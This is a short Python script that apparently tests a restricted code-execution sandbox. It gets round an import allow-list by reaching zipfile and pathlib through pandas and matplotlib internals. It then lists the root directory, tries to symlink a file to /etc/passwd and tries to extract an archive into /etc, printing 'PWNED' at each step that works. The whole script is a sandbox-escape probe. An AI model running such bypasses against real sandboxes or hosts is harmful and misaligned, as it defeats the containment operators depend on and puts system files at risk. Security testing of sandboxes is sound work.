import pandas as pd
import matplotlib
zf = pd.io.common.zipfile
with zf.ZipFile("out/p.zip", "w") as z:
    z.writestr("a.txt", "hello")
print("PW" + "NED: module off the allow-list used:", zf.__name__, zf.ZipFile("out/p.zip").namelist())
P = matplotlib.cbook.Path
print("PW" + "NED: pathlib (off the allow-list) lists /:", sorted(str(p) for p in P("/").iterdir())[:8])
try:
    P("/tmp/out/l").symlink_to("/etc/passwd")
    print("PW" + "NED: symlink made")
except Exception as e:
    print("symlink err", type(e).__name__, str(e)[:120])
try:
    with zf.ZipFile("out/p.zip") as z:
        z.extractall("/etc")
    print("PW" + "NED: extracted to /etc")
except Exception as e:
    print("extract err", type(e).__name__, str(e)[:120])
